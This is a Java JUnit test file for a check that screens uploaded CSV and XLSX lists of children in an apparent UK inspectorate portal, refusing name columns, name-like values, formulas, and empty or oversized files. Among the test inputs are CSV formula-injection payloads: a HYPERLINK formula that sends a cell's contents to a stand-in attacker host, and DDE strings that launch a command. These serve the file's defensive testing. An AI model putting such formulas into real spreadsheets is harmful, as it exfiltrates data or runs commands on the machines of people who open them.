package uk.gov.inspectorates.portal.core.evidence;

import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import uk.gov.inspectorates.portal.core.document.ContentCheck;
import uk.gov.inspectorates.portal.core.document.UploadRejected;

/**
 * Lists of children as CSV through the check (XLSX with the real reader: the security module's
 * {@code ChildrenListXlsxTest}). Hostile lists: names in headers, names in values, no identifier column, formulas.
 */
class ChildrenListCheckTest {

    /** XLSX is read by the adapter; these tests give it a table directly. */
    private Table workbookTable = new Table(List.of());
    private final ChildrenListCheck check = new ChildrenListCheck((bytes, limits) -> workbookTable);

    private void checkCsv(String csv) {
        checkAs(ChildrenListCheck.CSV, csv.getBytes(StandardCharsets.UTF_8));
    }

    private void checkAs(String mediaType, byte[] bytes) {
        ContentCheck.Session session = check.start();
        for (int i = 0; i < bytes.length; i += 5) {
            session.feed(bytes, i, Math.min(5, bytes.length - i));
        }
        session.conclude(mediaType);
    }

    private UploadRejected refusedCsv(String csv) {
        UploadRejected refused = assertThrows(UploadRejected.class, () -> checkCsv(csv));
        assertEquals(UploadRejected.Reason.CONTENT_NOT_ALLOWED, refused.reason(), refused.getMessage());
        return refused;
    }

    @Test
    void aListOfIdentifiersAndFactsIsAccepted() {
        assertDoesNotThrow(() -> checkCsv("Child ID,Age,Category,School name,Date of referral\r\n"
                + "C-0001,7,Child Protection Plan,Northdale Primary,2026-11-02\r\n"
                + "C-0002,15,Child In Need,,2026-10-30\r\n"
                + "\"C-0003\",\"12\",\"Looked after, placed with parents\",-,+\n"));
        assertDoesNotThrow(() -> checkCsv("\uFEFFcase number;age\n12345;9\n".replace(';', ',')));
    }

    @ParameterizedTest
    @ValueSource(strings = {"Name", "Forename", "First name", "Surname", "Last Name", "Family name", "Full name",
        "Child's name", "CHILD NAME", "Mother's name", "Social worker name", "Known as", "Preferred name",
        "Given names", "Middle name", "Alias", "FirstName", "Nickname"})
    void aHeaderNamingAPersonsNameIsRefusedNamingTheColumnAndRow(String header) {
        UploadRejected refused = refusedCsv("Child ID," + header + "\nC-1,x\n");

        assertTrue(refused.getMessage().contains("Row 1: the column \"" + header + "\" is for names"),
                refused.getMessage());
        assertEquals("CONTENT_NOT_ALLOWED children list: row 1", refused.auditDetail());
    }

    @ParameterizedTest
    @ValueSource(strings = {"Age,Category", "Name,Age", "Notes", "Child,Age"})
    void aListWithoutAnIdentifierColumnIsRefused(String header) {
        UploadRejected refused = refusedCsv(header + "\nx,y\n");

        assertTrue(refused.getMessage().contains("Row 1") && (refused.getMessage().contains("identifier")
                || refused.getMessage().contains("for names")), refused.getMessage());
    }

    @ParameterizedTest
    @ValueSource(strings = {"Oliver Smith", "Jane Doe", "Mary-Ann O'Brien", "Amelia", "amelia", "Aisha Khan Begum",
        "Tom Smith-Jones"})
    void aValueThatLooksLikeAPersonsNameIsRefusedWithItsRowAndColumn(String value) {
        UploadRejected refused = refusedCsv("Child ID,Allocated worker\nC-1,Team A\nC-2," + value + "\n");

        assertTrue(refused.getMessage().contains("Row 3: column B looks like a person's name"), refused.getMessage());
        assertFalse(refused.getMessage().contains(value), "the refusal does not repeat the name");
        assertFalse(refused.auditDetail().contains(value), "nor does the audit trail");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Child Protection Plan", "Looked After", "Early Help", "Section 47", "Team A",
        "Northdale", "C-0001", "Yes", "White British", "Missing From Home", "", "  "})
    void categoriesAndIdentifiersAreNotTakenForNames(String value) {
        assertDoesNotThrow(() -> checkCsv("Child ID,Status\nC-1," + value + "\n"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"\"https://attacker.example/?\"\"&A2,\"\"Click\"\")", "=1+1", "@SUM(A1)",
        "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"})
    void aFormulaIsRefusedAndDoesNotCrash(String formula) {
        UploadRejected refused = refusedCsv("Child ID,Link\nC-1,\"" + formula + "\"\n");

        assertTrue(refused.getMessage().contains("Row 2: column B holds a formula"), refused.getMessage());
    }

    @Test
    void rowsAreNumberedAsTheSenderSeesThemEvenAcrossLineBreaksInQuotes() {
        UploadRejected refused = refusedCsv("Child ID,Notes\nC-1,\"two\nlines\"\nC-2,Oliver Twist\n");

        assertTrue(refused.getMessage().contains("Row 4"), refused.getMessage());
    }

    @Test
    void anEmptyListOrAnUnreadableOneIsRefused() {
        assertTrue(refusedCsv("\n\n").getMessage().contains("empty"));
        assertTrue(refusedCsv("Child ID,Notes\nC-1,\"unclosed\n").getMessage().contains("could not be read"));
        UploadRejected latin1 = assertThrows(UploadRejected.class, () -> checkAs(ChildrenListCheck.CSV,
                "Child ID,Place\nC-1,Caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1)));
        assertTrue(latin1.getMessage().contains("UTF-8"), latin1.getMessage());
    }

    @Test
    void aListLargerThanTenMegabytesIsRefusedWithoutBeingHeld() {
        byte[] big = new byte[ChildrenListCheck.MAX_BYTES + 1];
        java.util.Arrays.fill(big, (byte) 'a');

        UploadRejected refused = assertThrows(UploadRejected.class, () -> checkAs(ChildrenListCheck.CSV, big));
        assertTrue(refused.getMessage().contains("smaller than 10 MB"), refused.getMessage());
    }

    @Test
    void onlyCsvAndXlsxAreListsOfChildren() {
        UploadRejected refused = assertThrows(UploadRejected.class,
                () -> checkAs("application/pdf", "%PDF-1.7".getBytes(StandardCharsets.US_ASCII)));
        assertEquals(UploadRejected.Reason.TYPE_NOT_ALLOWED, refused.reason());
    }

    @Test
    void aWorkbookIsCheckedByTheSameRules() {
        workbookTable = new Table(List.of(
                new Table.Row(1, List.of(new Table.Cell(0, "Child ID", false), new Table.Cell(1, "Age", false))),
                new Table.Row(7, List.of(new Table.Cell(0, "Oliver Smith", false)))));

        UploadRejected refused = assertThrows(UploadRejected.class,
                () -> checkAs(ChildrenListCheck.XLSX, new byte[] {1}));
        assertTrue(refused.getMessage().contains("Row 7: column A"), refused.getMessage());
    }
}
